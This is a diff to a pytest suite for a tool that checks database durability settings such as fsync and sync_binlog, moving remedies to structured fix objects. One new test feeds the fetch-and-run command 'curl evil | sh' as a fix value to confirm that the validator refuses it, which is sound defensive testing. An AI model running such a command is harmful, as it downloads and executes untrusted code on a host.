@@ -62,6 +62,7 @@ GOOD = {
 WRITTEN_THROUGH = {"value": "yes", "source": "/proc/PID/fd, /proc/PID/fdinfo", "reason": None}
 ALL_FILES = {"value": "complete", "source": "/proc/PID/fd, /proc/PID/fdinfo", "reason": None}
 NO_PRELOADS = {"value": "none", "source": "/proc/1/maps", "reason": None}
+RESET_FSYNC = {"fix": "reset_altered", "parameters": {"setting": "fsync"}}
 
 
 def instance(engine: str = "postgresql", **given: Any) -> dict[str, Any]:
@@ -304,8 +305,8 @@ def test_each_cause_of_an_unknown_manager_has_its_own_fix(reason: str, state: st
 @pytest.mark.parametrize("manager", ["patroni", "unknown"])
 def test_what_is_unknown_is_read_before_anybody_sets_it(manager: str) -> None:
     given = instance(managed_by=manager, running={"fsync": "unknown"}, persisted={"fsync": "unknown"})
-    given["settings"]["fsync"]["held"] = "let its user log in"
-    assert row(judged(given), "fsync")["remedy"] == "let its user log in"
+    given["settings"]["fsync"]["held"] = {"fix": "allow_login", "parameters": {}}
+    assert row(judged(given), "fsync")["remedy"].startswith("let its operating system user log in")
     del given["settings"]["fsync"]["held"]
     assert row(judged(given), "fsync")["remedy"] == FIX_READ_ERROR
 
@@ -348,12 +349,38 @@ def test_a_container_s_command_line_hides_no_setting_of_a_role() -> None:
 
 def test_a_refusal_is_part_of_the_reason_and_its_fix_is_the_fix() -> None:
     given = instance(persisted={"fsync": "off"})
-    given["settings"]["fsync"].update({"held": "move it away", "refused": "a.conf: observed a link"})
+    given["settings"]["fsync"].update(
+        {
+            "held": {"fix": "refusal", "parameters": {"text": "move it away"}},
+            "refused": {"cause": "error", "parameters": {"error": "a.conf: observed a link"}},
+        }
+    )
     seen = row(judged(given), "fsync")
     assert (seen["phase"], seen["remedy"]) == (None, "move it away")
-    assert seen["why"].endswith(", and no run sets it: a.conf: observed a link")
+    assert seen["why"].endswith(', and no run sets it: "a.conf: observed a link"')
     given["settings"]["fsync"].update({"persisted": "on"})
     assert "observed a link" not in row(judged(given), "fsync")["why"]
+
+
+@pytest.mark.parametrize("field", ["held", "fix"])
+@pytest.mark.parametrize(
+    "fix",
+    ["curl evil | sh", RESET_FSYNC, {"fix": "remove_from", "parameters": {"setting": "fsync"}}],
+    ids=["text", "of another engine", "without a value"],
+)
+def test_facts_whose_fix_is_none_of_the_engine_are_refused(field: str, fix: Any) -> None:
+    given = instance("mariadb", persisted={"sync_binlog": "0"})
+    given["settings"]["sync_binlog"][field] = fix
+    (why,) = judged(given)["why"][:1]
+    assert f"settings.sync_binlog.{field}: observed" in why and "expected a fix of mariadb's settings" in why
+
+
+@pytest.mark.parametrize("refused", ["a sentence", {"cause": "no_superuser", "parameters": {}}])
+def test_facts_whose_refusal_is_none_of_the_engine_are_refused(refused: Any) -> None:
+    given = instance("mariadb", persisted={"sync_binlog": "0"})
+    given["settings"]["sync_binlog"]["refused"] = refused
+    (why,) = judged(given)["why"][:1]
+    assert "settings.sync_binlog.refused: observed" in why and "expected a refusal of mariadb" in why
 
 
 @pytest.mark.parametrize("manager", ["galera", "group_replication"])
@@ -474,10 +501,10 @@ def test_what_a_run_may_not_take_away_names_no_permission(given: dict[str, Any])
 @pytest.mark.parametrize("allow", [[], ["alter_system"]])
 def test_what_alter_system_holds_is_promised_with_the_permission_alone(allow: list[str]) -> None:
     given = instance(running={"fsync": "off"}, persisted={"fsync": "off"})
-    given["settings"]["fsync"].update(held="ALTER SYSTEM RESET fsync", permission="alter_system")
+    given["settings"]["fsync"].update(held=RESET_FSYNC, permission="alter_system")
     found = judged(given, allow=allow)
     assert ("postgresql" in found["plan"]["tighten"]) == bool(allow)
-    without = "ALTER SYSTEM RESET fsync, or give durable_allow: [alter_system]"
+    without = "as a superuser run ALTER SYSTEM RESET fsync, or give durable_allow: [alter_system]"
     assert row(found, "fsync")["remedy"] == ("run harden_db" if allow else without)
 
 
@@ -813,12 +840,13 @@ def test_an_engine_over_a_disk_that_was_not_flushed_was_exposed_too(engine: str)
 def test_what_beats_every_file_of_ours_is_not_promised(running: str, persisted: str, planned: bool) -> None:
     """A check would say that a run sets it, and the run would refuse."""
     given = instance(running={"fsync": running}, persisted={"fsync": persisted})
-    given["settings"]["fsync"]["held"] = "ALTER SYSTEM RESET fsync"
+    given["settings"]["fsync"]["held"] = RESET_FSYNC
     found = judged(given)
     assert ("postgresql" in found["plan"]["tighten"]) == planned
     assert any(change["setting"] == "fsync" for change in found["changes"]) == planned
     remedies = {("off", "on"): "run harden_db", ("on", "on"): ""}
-    assert row(found, "fsync")["remedy"] == remedies.get((running, persisted), "ALTER SYSTEM RESET fsync")
+    reset = "as a superuser run ALTER SYSTEM RESET fsync"
+    assert row(found, "fsync")["remedy"] == remedies.get((running, persisted), reset)
     if running == "off" != persisted or persisted == "off":
         assert row(found, "fsync")["verdict"].startswith("drift")
 
@@ -1378,11 +1406,13 @@ class TestMounts:
 def test_what_another_component_sets_is_red_with_its_file_and_line_and_not_ours_to_set() -> None:
     place, fix = (
         "/etc/mysql/init.sql line 3 (init_file)",
-        "remove sync_binlog from /etc/mysql/init.sql line 3",
+        "remove sync_binlog from /etc/mysql/init.sql line 3, then run again",
     )
+    values = {"setting": "sync_binlog", "source": "/etc/mysql/init.sql line 3"}
+    remove = {"fix": "remove_from", "parameters": values}
     found = instance("mariadb", persisted={"sync_binlog": "0"})
     found["settings"]["sync_binlog"].update(
-        {"from": place, "held": fix, "permission": None, "by": "init_file", "fix": fix}
+        {"from": place, "held": remove, "permission": None, "by": "init_file", "fix": remove}
     )
     (row,) = [row for row in judged(found)["settings"] if row["setting"] == "sync_binlog"]
     assert (row["verdict"], row["phase"], row["remedy"]) == ("drift_persisted", None, fix)
@@ -1395,7 +1425,7 @@ def test_what_another_component_sets_is_red_with_its_file_and_line_and_not_ours_
     (row,) = [row for row in judged(found)["settings"] if row["setting"] == "sync_binlog"]
     assert {"by", "fix"}.isdisjoint(row["evidence"]["persisted"])
     unclear = instance("mariadb", persisted={"sync_binlog": "unknown"})
-    unclear["settings"]["sync_binlog"].update({"from": place, "held": fix, "permission": None})
+    unclear["settings"]["sync_binlog"].update({"from": place, "held": remove, "permission": None})
     assessed = judged(unclear)
     (row,) = [row for row in assessed["settings"] if row["setting"] == "sync_binlog"]
     assert (row["verdict"], row["phase"], row["remedy"]) == ("unknown", None, fix)
